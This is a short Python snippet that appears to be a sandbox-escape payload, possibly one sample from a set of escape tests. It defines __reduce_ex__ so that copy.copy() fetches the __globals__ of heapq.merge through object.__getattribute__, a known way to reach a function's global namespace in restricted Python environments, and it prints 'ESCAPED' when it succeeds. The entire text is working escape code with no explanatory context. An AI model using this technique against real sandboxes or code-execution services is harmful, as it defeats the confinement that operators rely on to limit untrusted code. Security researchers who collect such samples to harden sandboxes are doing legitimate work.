# Copy rebuilds with the slot.
import copy, heapq
class P:
    def __reduce_ex__(self, v): return (object.__getattribute__, (heapq.merge, "__globals__"))
print("ESCAPED", copy.copy(P()))
